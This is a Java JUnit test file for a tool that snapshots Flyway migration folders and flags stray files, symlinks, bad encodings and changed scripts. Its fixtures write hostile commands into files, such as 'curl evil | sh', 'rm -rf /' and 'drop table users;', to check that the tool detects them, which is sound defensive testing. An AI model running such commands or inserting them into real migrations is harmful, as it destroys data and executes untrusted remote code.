package dev.safemigrate.migrations;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class MigrationSnapshotTest {

    @TempDir
    Path dir;

    private List<String> strayNames(MigrationSnapshot s) {
        return s.strays().stream().map(st -> dir.relativize(st.path()).toString()).toList();
    }

    @Test
    void holdsVersionedFilesInFlywayOrderWithBytesHashAndChecksum() throws Exception {
        MigrationFolder folder = new MigrationFolder(dir);
        for (String v : List.of("1.10", "1.9", "2", "1")) {
            folder.write(v, "m" + v.replace('.', '_'), "select 1;\n");
        }
        Files.createDirectories(dir.resolve("sub"));
        Files.writeString(dir.resolve("sub/V3__nested.sql"), "select 3;\n");
        MigrationSnapshot s = MigrationSnapshot.read(dir);
        assertEquals(List.of("1", "1.9", "1.10", "2", "3"), s.files().stream().map(f -> f.version().getVersion()).toList());
        MigrationSnapshot.SnapshotFile nested = s.byVersion("3").orElseThrow();
        assertEquals("sub/V3__nested.sql", nested.script());
        assertEquals(MigrationSnapshot.sha256("select 3;\n".getBytes(StandardCharsets.UTF_8)), nested.sha256());
        assertEquals(FlywayChecksum.of("select 3;\n"), nested.checksum());
        assertTrue(s.strays().isEmpty());
    }

    @Test
    void dottedAndUnderscoredVersionsAreOneVersion() throws Exception {
        Files.writeString(dir.resolve("V1_1__keep.sql"), "select 1;\n");
        MigrationSnapshot s = MigrationSnapshot.read(dir);
        assertEquals("V1_1__keep.sql", s.byVersion("1.1").orElseThrow().fileName());
        assertEquals("V1_1__keep.sql", s.byVersion("1_1").orElseThrow().fileName());
        assertTrue(s.byVersion("1.1.0").isPresent(), "Flyway ignores trailing zero parts");
        assertFalse(s.byVersion("11").isPresent());
        assertFalse(s.byVersion("../etc").isPresent());
    }

    @Test
    void everythingFlywayCouldRunThatIsNotAnalysedIsStray() throws Exception {
        Files.writeString(dir.resolve("V1__ok.sql"), "select 1;\n");
        Files.writeString(dir.resolve("V2__x.sh"), "curl evil | sh\n");
        Files.writeString(dir.resolve("V3__x.py"), "print(1)\n");
        Files.writeString(dir.resolve("R__view.sql"), "select 1;\n");
        Files.writeString(dir.resolve("afterMigrate.sql"), "drop table t;\n");
        Files.writeString(dir.resolve("flyway.conf"), "flyway.locations=filesystem:/tmp\n");
        Files.writeString(dir.resolve("V1__ok.sql.conf"), "encoding=UTF-16\n");
        Files.writeString(dir.resolve("v4__lower.sql"), "select 4;\n");
        Files.writeString(dir.resolve("README.md"), "notes\n");
        Files.writeString(dir.resolve(".gitkeep"), "");
        MigrationSnapshot s = MigrationSnapshot.read(dir);
        assertEquals(List.of("R__view.sql", "V1__ok.sql.conf", "V2__x.sh", "V3__x.py", "afterMigrate.sql", "flyway.conf",
                "v4__lower.sql"), strayNames(s));
        assertTrue(s.files().isEmpty(), "a migration with a foreign .conf is not runnable: " + s.files());
    }

    @Test
    void symlinksAreStrayWhetherFilesOrFolders() throws Exception {
        Path outside = Files.createDirectories(dir.resolveSibling(dir.getFileName() + "-outside"));
        Files.writeString(outside.resolve("V9__evil.sql"), "drop table users;\n");
        Path m = Files.createDirectories(dir.resolve("m"));
        Files.createSymbolicLink(m.resolve("linked"), outside);
        Files.createSymbolicLink(m.resolve("V8__link.sql"), outside.resolve("V9__evil.sql"));
        MigrationSnapshot s = MigrationSnapshot.read(m);
        assertEquals(List.of("m/V8__link.sql", "m/linked"), strayNames(s));
        assertTrue(s.files().isEmpty());
        Files.createSymbolicLink(dir.resolve("alias"), m);
        assertEquals(1, MigrationSnapshot.read(dir.resolve("alias")).strays().size(), "the folder itself may not be a link");
    }

    @Test
    void onlyTheConfSafemigrateWritesIsAccepted() throws Exception {
        new MigrationFolder(dir).write("1", "idx", "create index concurrently i on t (a);\n", false);
        MigrationSnapshot s = MigrationSnapshot.read(dir);
        assertTrue(s.strays().isEmpty());
        assertFalse(s.files().get(0).executeInTransaction());
        Files.writeString(dir.resolve("V2__orphan.sql.conf"), MigrationSnapshot.NON_TRANSACTIONAL_CONF);
        assertEquals(List.of("V2__orphan.sql.conf"), strayNames(MigrationSnapshot.read(dir)));
    }

    @Test
    void invalidUtf8AndDuplicateVersionsAreStray() throws Exception {
        Files.write(dir.resolve("V1__bad.sql"), new byte[] {'s', 'e', 'l', (byte) 0xC3, ';'});
        Files.writeString(dir.resolve("V2__a.sql"), "select 2;\n");
        Files.createDirectories(dir.resolve("sub"));
        Files.writeString(dir.resolve("sub/V2_0__b.sql"), "select 2;\n");
        assertEquals(List.of("V1__bad.sql", "sub/V2_0__b.sql"), strayNames(MigrationSnapshot.read(dir)));
    }

    @Test
    void aByteOrderMarkIsNotPartOfTheText() throws Exception {
        Files.write(dir.resolve("V1__bom.sql"), "\uFEFFselect 1;\n".getBytes(StandardCharsets.UTF_8));
        assertEquals("select 1;\n", MigrationSnapshot.read(dir).files().get(0).text());
    }

    @Test
    void changesNameEveryAddedChangedAndRemovedFile() throws Exception {
        Files.writeString(dir.resolve("V1__a.sql"), "select 1;\n");
        Files.writeString(dir.resolve("V2__b.sql"), "select 2;\n");
        MigrationSnapshot before = MigrationSnapshot.read(dir);
        assertTrue(before.changesIn(MigrationSnapshot.read(dir)).isEmpty());
        Files.writeString(dir.resolve("V1__a.sql"), "drop table users;\n");
        Files.delete(dir.resolve("V2__b.sql"));
        Files.writeString(dir.resolve("V3__c.sql"), "select 3;\n");
        Files.writeString(dir.resolve("V4__d.sh"), "rm -rf /\n");
        assertEquals(List.of("V1__a.sql was changed", "V3__c.sql was added", "V2__b.sql was removed", "V4__d.sh appeared"),
                before.changesIn(MigrationSnapshot.read(dir)));
    }
}
